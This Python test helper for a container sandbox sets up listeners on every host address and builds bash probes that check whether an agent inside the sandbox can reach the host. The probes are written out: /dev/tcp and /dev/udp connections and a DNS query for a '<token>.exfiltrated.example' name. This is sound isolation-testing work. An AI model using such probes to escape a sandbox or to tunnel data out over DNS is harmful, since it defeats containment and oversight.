"""The Docker host as an agent would attack it: listeners on every host address, and the list of
those addresses, so a test can prove that nothing the sandbox sends reaches this machine.

The listeners bind the wildcard addresses (as a database, a DNS cache or a development server on a
laptop usually does) on one ephemeral port for TCP and UDP, IPv4 and IPv6. UDP datagrams that
parse as DNS queries get an answer, so the same port stands in for a resolver on the host (dnsmasq,
systemd-resolved), which is a channel out when the agent can reach it.
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import os
import socket
import struct
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest

from tests.e2e.helpers import run

#: The address a DNS answer from the host's resolver carries (documentation space, never routed).
ANSWER = "192.0.2.53"


@dataclass
class HostListener:
    """TCP and UDP on one port of every host address; ``events`` lists what arrived, and from where."""

    port: int = 0
    events: list[str] = field(default_factory=list)
    _sockets: list[socket.socket] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def start(self) -> HostListener:
        for _ in range(20):  # another process may take the port between the IPv4 and IPv6 binds
            try:
                self._bind_all()
                break
            except OSError:
                self.close()
                self.port = 0
        else:
            raise AssertionError("no port free on every host address for the listeners")
        for sock in self._sockets:
            target = self._accept if sock.type == socket.SOCK_STREAM else self._answer
            threading.Thread(target=target, args=(sock,), daemon=True).start()
        return self

    def _bind_all(self) -> None:
        for family, kind in (
            (socket.AF_INET, socket.SOCK_STREAM),
            (socket.AF_INET, socket.SOCK_DGRAM),
            (socket.AF_INET6, socket.SOCK_STREAM),
            (socket.AF_INET6, socket.SOCK_DGRAM),
        ):
            sock = socket.socket(family, kind)
            self._sockets.append(sock)
            if family == socket.AF_INET6:
                sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            sock.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", self.port))
            self.port = sock.getsockname()[1]
            if kind == socket.SOCK_STREAM:
                sock.listen(16)

    def _record(self, event: str) -> None:
        with self._lock:
            self.events.append(event)

    def _accept(self, sock: socket.socket) -> None:
        while True:
            try:
                conn, peer = sock.accept()
            except OSError:
                return
            self._record(f"tcp from {peer[0]}")
            try:
                conn.sendall(b"host-listener\n")
            finally:
                conn.close()

    def _answer(self, sock: socket.socket) -> None:
        while True:
            try:
                data, peer = sock.recvfrom(2048)
            except OSError:
                return
            reply = dns_answer(data)
            self._record(f"{'dns' if reply else 'udp'} from {peer[0]}")
            with contextlib.suppress(OSError):
                sock.sendto(reply or b"host-listener\n", peer)

    def close(self) -> None:
        for sock in self._sockets:
            sock.close()
        self._sockets.clear()


def dns_query(name: str, ident: int = 0x5A4B) -> bytes:
    """A standard recursive query for the A record of ``name``."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack("!HH", 1, 1)


def dns_answer(query: bytes) -> bytes | None:
    """A reply with one A record (ANSWER) for a well-formed query, None for anything else."""
    if len(query) < 17 or query[2] & 0x80 or struct.unpack("!H", query[4:6])[0] != 1:
        return None
    end = 12
    while end < len(query) and query[end]:
        end += query[end] + 1
    question = query[12 : end + 5]
    if len(question) < end - 12 + 5:
        return None
    header = query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(ANSWER)
    return header + question + record


def printf_bytes(data: bytes) -> str:
    """``data`` as a printf(1) format of \\xHH escapes (safe inside single quotes)."""
    return "".join(f"\\x{byte:02x}" for byte in data)


def _addresses(device: str) -> list[str]:
    links = json.loads(run(["ip", "-j", "addr", "show", "dev", device], check=True).stdout)
    return [info["local"] for link in links for info in link.get("addr_info", [])]


def _default_devices() -> set[str]:
    devices: set[str] = set()
    for family in ("-4", "-6"):
        routes = json.loads(run(["ip", "-j", family, "route", "show", "default"], check=True).stdout or "[]")
        devices.update(route["dev"] for route in routes if "dev" in route)
    return devices


def host_addresses(networks: list[str]) -> list[str]:
    """The addresses of this machine an agent would aim at, as seen from inside a container.

    Those of the interfaces that carry the default routes (its LAN or public addresses) and of
    docker0; and for each Docker network given, the gateway Docker's IPAM gave it and whatever the
    host holds on its bridge (IPv6 link-local addresses scoped to eth0, the container's interface).
    """
    found: set[str] = set()
    for device in {*_default_devices(), "docker0"}:
        found.update(a for a in _addresses(device) if not ipaddress.ip_address(a).is_link_local)
    for network in networks:
        info = json.loads(run(["docker", "network", "inspect", network], check=True).stdout)[0]
        found.update(c["Gateway"] for c in (info.get("IPAM") or {}).get("Config") or [] if c.get("Gateway"))
        bridge = (info.get("Options") or {}).get("com.docker.network.bridge.name") or f"br-{info['Id'][:12]}"
        found.update(f"{a}%eth0" if a.startswith("fe80:") else a for a in _addresses(bridge))
    return sorted(found)


def reach_script(addresses: list[str], port: int, token: str, *, icmp: bool = True) -> str:
    """Bash for the agent: TCP, UDP, a DNS query and ICMP to every address, side by side (3 s in all).

    Each probe prints ``reached PROTO ADDR`` when the host answered; the test also reads what the
    host's listeners received, so a datagram that arrived without an answer coming back is caught
    too. Builtins do most of the work: the agent's pids limit (64) must hold every probe at once.
    An address may be a shell variable (``$GATEWAY``) that the script set before.
    """
    query = printf_bytes(dns_query(f"{token}.exfiltrated.example"))
    lines = ["set +m"]
    for address in addresses:
        lines += [
            f'(timeout 3 bash -c "exec 3<>/dev/tcp/{address}/{port} && read -t 2 -r line <&3'
            f' && [ \\"\\$line\\" = host-listener ]" 2>/dev/null && echo "reached tcp {address}") &',
            f"(exec 3<>/dev/udp/{address}/{port} && printf udp-{token} >&3 && read -t 2 -r line <&3"
            f' && [ "$line" = host-listener ] && echo "reached udp {address}") 2>/dev/null &',
            f"(exec 3<>/dev/udp/{address}/{port} && printf '{query}' >&3 && read -t 2 -r -N 1 _ <&3"
            f' && echo "reached dns {address}") 2>/dev/null &',
        ]
        if icmp:
            lines.append(f'(ping -c 1 -W 2 "{address}" >/dev/null 2>&1 && echo "reached icmp {address}") &')
    lines += ["wait", "echo probes-done"]
    return "\n".join(lines) + "\n"


#: Bash that sets GATEWAY to the address a container's network routes through (its default route's
#: gateway, or the first address of its subnet where the engine gives internal networks no route).
GATEWAY_SCRIPT = r"""
while read -r iface dest gw _; do
  if [ "$iface" = eth0 ] && [ "$dest" = 00000000 ]; then hex=$gw; fi
  if [ "$iface" = eth0 ] && [ "$dest" != 00000000 ] && [ -z "${subnet:-}" ]; then subnet=$dest; fi
done < /proc/net/route
hex=${hex:-$(printf '%08X' $(( 16#$subnet + 16#01000000 )))}
GATEWAY=$((16#${hex:6:2})).$((16#${hex:4:2})).$((16#${hex:2:2})).$((16#${hex:0:2}))
echo "gateway=$GATEWAY"
"""


def require_root(what: str) -> None:
    """Skip (fail where CI requires the real tests) when this process cannot change the host's interfaces."""
    if os.geteuid() == 0:
        return
    if os.environ.get("SANDKIT_REQUIRE_DOCKER") == "1":
        pytest.fail(f"SANDKIT_REQUIRE_DOCKER=1 but {what} needs root")
    pytest.skip(f"{what} needs root")


@contextlib.contextmanager
def stray_addresses(name: str, addresses: list[str]) -> Iterator[None]:
    """This machine holds ``addresses`` on a bridge that is down and routes nothing, as a bridge a
    stopped engine left behind does: Linux still answers ARP for them on every other interface."""
    run(["ip", "link", "add", name, "type", "bridge"], check=True)
    try:
        for address in addresses:
            run(["ip", "addr", "add", f"{address}/32", "dev", name], check=True)
        yield
    finally:
        run(["ip", "link", "del", name])
